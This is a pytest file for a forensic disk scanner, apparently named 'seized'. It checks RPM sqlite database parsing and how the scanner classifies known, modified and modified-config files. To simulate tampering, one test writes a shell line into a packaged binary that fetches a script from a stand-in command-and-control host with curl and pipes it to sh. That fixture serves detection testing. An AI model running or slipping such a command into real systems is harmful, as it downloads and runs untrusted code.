"""rpm's database (rpmdb.sqlite, RHEL/Fedora 8+) read from the evidence: a package built with
rpmbuild and installed by rpm itself into a root with the sqlite backend; its files are known
with 'NAME VERSION-RELEASE', a changed %config file is modified-config, a changed binary modified."""
from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pyarrow.compute as pc
import pytest

from known.rpm import read_rpmdb_sqlite
from tests import realsystem
from tests.conftest import read_table, run_seized

SPEC = """Name: seized-hello
Version: 1.2
Release: 3
Summary: test package for seized
License: MIT
BuildArch: noarch
%description
A script, a config file and a data file.
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/etc %{buildroot}/usr/share/seized-hello
printf '#!/bin/sh\\necho hello\\n' > %{buildroot}/usr/bin/seized-hello
printf '#!/bin/sh\\necho bye\\n' > %{buildroot}/usr/bin/seized-bye
printf 'greeting=hello\\n' > %{buildroot}/etc/seized-hello.conf
printf 'data\\n' > %{buildroot}/usr/share/seized-hello/data.txt
%files
/usr/bin/seized-hello
/usr/bin/seized-bye
/usr/share/seized-hello/data.txt
%config(noreplace) /etc/seized-hello.conf
"""


def _rpm_root(work: Path) -> Path:
    if not (shutil.which("rpmbuild") and shutil.which("rpm")):
        pytest.skip("rpm/rpmbuild not installed (Debian package rpm): cannot build a real rpmdb.sqlite")
    (work / "SPECS").mkdir(parents=True)
    (work / "SPECS" / "hello.spec").write_text(SPEC)
    subprocess.run(["rpmbuild", "--define", f"_topdir {work}", "-bb", work / "SPECS" / "hello.spec"], check=True,
                   capture_output=True)
    root = work / "root"
    root.mkdir()
    rpm = ["rpm", "--define", "_db_backend sqlite", "--root", root, "--dbpath", "/var/lib/rpm"]
    subprocess.run([*rpm, "--initdb"], check=True, capture_output=True)
    subprocess.run([*rpm, "-i", "--nodeps", "--noscripts", "--ignoreos", "--ignorearch",
                    *sorted((work / "RPMS" / "noarch").glob("*.rpm"))], check=True, capture_output=True)
    if not (root / "var/lib/rpm/rpmdb.sqlite").is_file():
        pytest.skip("this rpm has no sqlite backend")
    for leftover in (".rpm.lock", "rpmdb.sqlite-shm"):
        (root / "var/lib/rpm" / leftover).unlink(missing_ok=True)
    return root


def test_rpmdb_sqlite_headers(tmp_path):
    root = _rpm_root(tmp_path)
    packages, problems = read_rpmdb_sqlite((root / "var/lib/rpm/rpmdb.sqlite").read_bytes())
    assert problems == []
    (pkg,) = packages
    assert (pkg.name, pkg.version, pkg.release, pkg.label) == ("seized-hello", "1.2", "3", "seized-hello 1.2-3")
    files = {f.path: f for f in pkg.files}
    assert set(files) >= {"/usr/bin/seized-hello", "/etc/seized-hello.conf", "/usr/share/seized-hello/data.txt"}
    assert files["/etc/seized-hello.conf"].config and not files["/usr/bin/seized-hello"].config
    import hashlib

    algo = pkg.digest_algo
    for path in ("/usr/bin/seized-hello", "/etc/seized-hello.conf"):
        assert files[path].digest == hashlib.new(algo, (root / path.lstrip("/")).read_bytes()).hexdigest()


def test_rpm_system_classified(tmp_path):
    root = _rpm_root(tmp_path)
    (root / "etc/seized-hello.conf").write_text("greeting=spam\n")
    (root / "usr/bin/seized-bye").write_text("#!/bin/sh\ncurl http://c2.example/x | sh\n")
    image = realsystem.ext4_image(root, tmp_path / "ev" / "rpm.img")
    case = tmp_path / "cases" / "case"  # not in the evidence's own folder
    proc = run_seized("scan", image, "-o", case, "--workers", "0", "--no-default-rules", "--no-unallocated")
    assert proc.returncode == 0, proc.stderr
    files = read_table(case, "files")
    got = {r["path"]: (r["known_status"], r["known_source"]) for r in
           files.filter(pc.is_valid(files.column("known_status"))).select(["path", "known_status", "known_source"]).to_pylist()}
    assert got["/usr/bin/seized-hello"] == ("known", "seized-hello 1.2-3")
    assert got["/usr/share/seized-hello/data.txt"] == ("known", "seized-hello 1.2-3")
    assert got["/etc/seized-hello.conf"] == ("modified-config", "seized-hello 1.2-3")
    assert got["/usr/bin/seized-bye"] == ("modified", "seized-hello 1.2-3")


def test_unreadable_rpm_databases_are_errors_rows(tmp_path):
    # two systems on one disk: a damaged rpmdb.sqlite, and an old Berkeley DB rpm database
    damaged, old = tmp_path / "damaged", tmp_path / "old"
    (damaged / "var/lib/rpm").mkdir(parents=True)
    (damaged / "var/lib/rpm/rpmdb.sqlite").write_bytes(b"SQLite format 3\x00" + b"\xff" * 4000)
    (damaged / "usr/bin").mkdir(parents=True)
    (damaged / "usr/bin/tool").write_text("#!/bin/sh\n")
    (old / "var/lib/rpm").mkdir(parents=True)
    (old / "var/lib/rpm/Packages").write_bytes(b"\x00\x06\x15\x61" + b"\x00" * 4092)  # a Berkeley DB hash magic
    disk = realsystem.imaging.partitioned_disk(tmp_path / "ev" / "disk.img", [
        realsystem.ext4_image(damaged, tmp_path / "a.ext4"), realsystem.ext4_image(old, tmp_path / "b.ext4")])
    case = tmp_path / "cases" / "case"  # not in the evidence's own folder
    proc = run_seized("scan", disk, "-o", case, "--workers", "0", "--no-default-rules", "--no-unallocated")
    assert proc.returncode == 0, proc.stderr
    rows = [r for r in read_table(case, "errors").to_pylist() if r["stage"] == "known-files"]
    texts = " | ".join(r["error"] for r in rows)
    assert any(r["path"] == "/var/lib/rpm/rpmdb.sqlite" for r in rows), texts
    assert any(r["path"] == "/var/lib/rpm/Packages" and "Berkeley DB" in r["error"] for r in rows), texts
    files = read_table(case, "files")
    tool = files.filter(pc.equal(files.column("path"), "/usr/bin/tool")).to_pylist()[0]
    assert tool["known_status"] == "unknown"
